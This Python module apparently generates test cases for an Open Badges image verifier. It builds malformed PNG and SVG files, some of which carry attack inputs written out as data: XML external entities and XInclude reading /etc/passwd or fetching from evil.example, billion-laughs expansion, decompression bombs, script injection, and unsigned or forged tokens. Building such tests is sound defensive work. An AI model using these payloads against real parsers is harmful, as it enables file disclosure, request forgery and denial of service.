"""V-IMG-1 to V-IMG-3: badges inside pictures."""

from __future__ import annotations

import zlib
from typing import Any

from generator.badges import badge, claims
from generator.book import Book
from generator.material import EVE, ISSUER, embed, text_of, token

__all__ = ["add_cases", "chunk", "itxt", "png", "svg"]

SIGNATURE = b"\x89PNG\r\n\x1a\n"
HEADER = bytes([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0])
NAMESPACE = "https://purl.imsglobal.org/ob/v3p0"


def chunk(kind: bytes, data: bytes, *, length: int | None = None, checksum: int | None = None) -> bytes:
    """One chunk, with a length or checksum that may be wrong."""
    crc = zlib.crc32(kind + data) if checksum is None else checksum
    return (len(data) if length is None else length).to_bytes(4, "big") + kind + data + crc.to_bytes(4, "big")


def itxt(
    text: str | bytes, keyword: bytes = b"openbadgecredential", flag: int = 0, method: int = 0, rest: bytes = b"\0\0"
) -> bytes:
    """An iTXt chunk with a badge."""
    raw = text.encode("utf-8") if isinstance(text, str) else text
    return chunk(b"iTXt", keyword + b"\0" + bytes([flag, method]) + rest + raw)


def png(
    *middle: bytes, header: bytes = HEADER, end: bytes = chunk(b"IEND", b""), tail: bytes = b"", before: bytes = b""
) -> bytes:
    """A picture of one pixel with more chunks after its header."""
    return (
        SIGNATURE
        + before
        + chunk(b"IHDR", header)
        + b"".join(middle)
        + chunk(b"IDAT", zlib.compress(bytes(4)))
        + end
        + tail
    )


def svg(
    inside: str, *, root: str = f'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{NAMESPACE}"', before: str = ""
) -> str:
    """A picture with an element inside."""
    return f'{before}<svg {root} width="1" height="1">{inside}<rect width="1" height="1"/></svg>'


def _element(text: str, name: str = "openbadges:credential") -> str:
    return f"<{name}><![CDATA[{text}]]></{name}>"


def add_cases(book: Book) -> None:
    """Every case about pictures."""
    _png(book)
    _svg(book)


def _png(book: Book) -> None:
    text = text_of(embed(badge(), ISSUER))
    good = itxt(text)
    packed = itxt(zlib.compress(text.encode()), flag=1)
    cases: dict[str, Any] = {
        "no-badge": png(),
        "two": png(good, good),
        "two-different": png(good, itxt(text_of(embed(badge(EVE), EVE)))),
        "two-standards": png(good, itxt('{"a":1}', b"openbadges")),
        "two-one-compressed": png(good, packed),
        "two-one-text": png(good, chunk(b"tEXt", b"openbadgecredential\0" + text.encode())),
        "compressed": png(packed),
        "flag-2": png(itxt(text, flag=2)),
        "ztxt": png(chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(text.encode()))),
        "text-chunk": png(chunk(b"tEXt", b"openbadgecredential\0" + text.encode())),
        "bomb": png(itxt(zlib.compress(bytes(50_000_000)), flag=1)),
        "bomb-ztxt": png(chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(bytes(50_000_000)))),
        "crc": png(chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + text.encode(), checksum=0)),
        "keyword-upper": png(itxt(text, b"OpenBadgeCredential")),
        "keyword-blank": png(itxt(text, b"openbadgecredential ")),
        "keyword-prefix": png(itxt(text, b"openbadgecredentials")),
        "keyword-short": png(itxt(text, b"openbadge")),
        "after-end": png(tail=good),
        "after-end-whole": png(tail=png(good)),
        "before-header": png(before=good),
        "empty-text": png(itxt("")),
        "blank-text": png(itxt(" \n")),
        "latin-1": png(itxt(text.encode() + b"\xe9")),
        "utf-16": png(itxt(text.encode("utf-16"))),
        "bom": png(itxt("\ufeff" + text)),
        "not-json": png(itxt("hello")),
        "link": png(itxt("https://badges.example/b/1")),
        "length-past-end": png(chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + text.encode(), length=10**9)),
        "length-negative": png(chunk(b"iTXt", b"x", length=0xFFFFFFFF)),
        "length-short": png(chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + text.encode(), length=30)),
        "no-end": png(good, end=b""),
        "cut": png(good)[:-6],
        "cut-in-chunk": png(good)[:200],
        "signature-only": SIGNATURE,
        "header-short": png(good, header=HEADER[:-1]),
        "header-long": png(good, header=HEADER + b"\0"),
        "no-header": SIGNATURE + good + chunk(b"IEND", b""),
        "two-headers": png(chunk(b"IHDR", HEADER), good),
        "end-with-data": png(good, end=chunk(b"IEND", b"x")),
        "type-digits": png(chunk(b"1234", b""), good),
        "type-nul": png(chunk(b"\0\0\0\0", b""), good),
        "text-mode": png(good).replace(b"\r\n", b"\n", 1),
        "missing-fields": png(chunk(b"iTXt", b"openbadgecredential\0")),
        "no-nul": png(chunk(b"iTXt", b"openbadgecredential")),
        "json-in-text": png(itxt("[" + text + "]")),
        "lines": png(itxt(text + "\n" + text)),
        "apng": png(chunk(b"fdAT", b"\0\0\0\0"), chunk(b"iTXt", b"openbadgecredential\0\0\0")),
        "ob2-with-ob3": png(itxt(text, b"openbadges"), good),
        "header-crc": (png(good)[:29] + bytes(4) + png(good)[33:]),
    }
    for label, data in cases.items():
        requirement = "V-IMG-1 V-IMG-3" if label.startswith("two") else "V-IMG-1"  # baking replaces, never adds
        book.add(f"png-{label}", requirement, 4, data, "A whole picture with one badge in one plain chunk.")
    changed = text.replace("Edit-a-thon host", "Master", 1)
    book.add("png-changed-badge", "V-IMG-1", 1, png(itxt(changed)), "The badge inside was changed.")
    document = badge()
    book.add(
        "png-none-token",
        "V-IMG-1 V-JWT-1",
        1,
        png(itxt(token(document | claims(document), ISSUER, {"alg": "none"}))),
        "An unsigned token inside.",
    )
    for label, recipe in {
        "chunks": {"png": {"chunks": 10_001}},
        "text-3mb": {"png": {"keyword": "openbadgecredential"}, "parts": [["x", 3_000_000]]},
        "file-11mb": {"png": {"tail": 11_000_000}},
        "json-2mb": {"png": {"keyword": "openbadgecredential"}, "parts": [['{"a":"', 1], ["x", 1_900_000], ['"}', 1]]},
    }.items():
        book.add(f"png-{label}", "V-IMG-1", 4, {"recipe": recipe}, "Over a limit.")


def _svg(book: Book) -> None:
    text = text_of(embed(badge(), ISSUER))
    document = badge()
    jwt = token(document | claims(document), ISSUER)
    good = _element(text)
    entity = '<!DOCTYPE svg [<!ENTITY x "{}">]>'.format("y" * 50)
    laughs = (
        "<!DOCTYPE svg ["
        '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
    )
    cases: dict[str, str] = {
        "no-badge": svg(""),
        "two": svg(good + good),
        "two-forms": svg(good + f'<openbadges:credential verify="{jwt}"/>'),
        "nested-two": svg(f"<g>{good}</g>{good}"),
        "entity": svg(good, before=entity),
        "laughs": svg(_element("&a9;"), before=laughs),
        "laughs-used": svg("<openbadges:credential>&a9;</openbadges:credential>", before=laughs),
        "external": svg(
            "<openbadges:credential>&x;</openbadges:credential>",
            before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        "external-http": svg(good, before='<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/x">]>'),
        "parameter": svg(good, before='<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>'),
        "subset-empty": svg(good, before="<!DOCTYPE svg []>"),
        "attlist": svg(good, before='<!DOCTYPE svg [<!ATTLIST svg x CDATA "1">]>'),
        "wrong-namespace": svg(
            good, root='xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://evil.example/ob"'
        ),
        "no-namespace": svg(good, root='xmlns="http://www.w3.org/2000/svg"'),
        "namespace-slash": svg(good, root=f'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{NAMESPACE}/"'),
        "other-element": svg(_element(text, "openbadges:badge")),
        "comment": svg(f"<!-- {good} -->"),
        "empty": svg("<openbadges:credential/>"),
        "blank": svg("<openbadges:credential>  </openbadges:credential>"),
        "verify-empty": svg('<openbadges:credential verify=""/>'),
        "child": svg(f"<openbadges:credential><b>{text[:20]}</b></openbadges:credential>"),
        "unclosed": svg(good)[:-6],
        "not-wellformed": svg(good + "<a>"),
        "attribute-twice": svg('<openbadges:credential verify="a" verify="b"/>'),
        "entity-undefined": svg("<openbadges:credential>&nope;</openbadges:credential>"),
        "html": f"<html><body>{good}</body></html>",
        "html-doctype": f"<!DOCTYPE html><html><body>{good}</body></html>",
        "trailing": svg(good) + "<svg/>",
        "control": svg(_element("\x01" + text)),
        "nul": svg(good).replace("width", "\0width"),
        "other-root": f'<x xmlns:openbadges="{NAMESPACE}">{good}</x>',
        "root-badge": good.replace("credential>", f'credential xmlns:openbadges="{NAMESPACE}">', 1),
        "encoding-unknown": '<?xml version="1.0" encoding="x-martian"?>' + svg(good),
        "encoding-ebcdic": '<?xml version="1.0" encoding="cp037"?>' + svg(good),
        "link": svg('<openbadges:credential verify="https://badges.example/b/1"/>'),
        "xinclude": svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "two-standards": svg(good + '<o:assertion xmlns:o="http://openbadges.org" verify="a.b.c"/>'),
        "not-json": svg(_element("hello")),
    }
    for label, data in cases.items():
        book.add(
            f"svg-{label}",
            "V-IMG-2",
            4,
            data,
            "One badge in one element, and nothing that is loaded or expanded.",
            asks=[],
        )
    book.add(
        "svg-changed-badge",
        "V-IMG-2",
        1,
        svg(_element(text.replace("Edit-a-thon host", "Master", 1))),
        "The badge inside was changed.",
    )
    both = svg(f'<openbadges:credential verify="{jwt}"><![CDATA[{text}]]></openbadges:credential>')
    book.add("svg-both", "V-IMG-2", 0, both, "Where verify stands, it is what counts.")
    hidden = svg(f'<openbadges:credential verify="{jwt[:-8]}AAAAAAAA"><![CDATA[{text}]]></openbadges:credential>')
    book.add("svg-both-forged", "V-IMG-2", 1, hidden, "A good body does not mend a forged token.")
    utf_7 = b'<?xml version="1.0" encoding="utf-7"?>' + svg(good).encode()
    book.add("svg-encoding-utf-7", "V-IMG-2", 4, utf_7, "UTF-8 or UTF-16 only.")
    script = svg(
        _element(text.replace('"name":"Edit', '"name":"<script>alert(1)</script>Edit', 1)) + "<script>alert(1)</script>"
    )
    book.add("svg-script", "V-IMG-2 V-PAR-4", 1, script, "Changed; and a script is only text to a verifier.")
    for label, parts in {
        "deep": [["<svg xmlns='http://www.w3.org/2000/svg'>", 1], ["<g>", 100], ["</g>", 100], ["</svg>", 1]],
        "nodes": [["<svg xmlns='http://www.w3.org/2000/svg'>", 1], ["<g/>", 21_000], ["</svg>", 1]],
        "6mb": [["<svg xmlns='http://www.w3.org/2000/svg'><!--", 1], ["x", 6_000_000], ["--></svg>", 1]],
        "attributes": [["<svg ", 1], ['a{n}="" ', 50_000, "number"], ["/>", 1]],
        "name": [["<", 1], ["a", 1_000_000], ["/>", 1]],
        "deep-100000": [["<a>", 100_000]],
        "unclosed-comment": [["<!--", 1], ["-", 3_000_000]],
        "unclosed-cdata": [["<svg><![CDATA[", 1], ["]", 3_000_000]],
        "open-brackets": [["<", 1_000_000]],
        "namespaces": [["<svg ", 1], ['xmlns:a{n}="urn:{n}" ', 20_000, "number"], ["/>", 1]],
    }.items():
        book.add(f"svg-limit-{label}", "V-IMG-2", 4, {"recipe": {"parts": parts}}, "Over a limit, or not well-formed.")
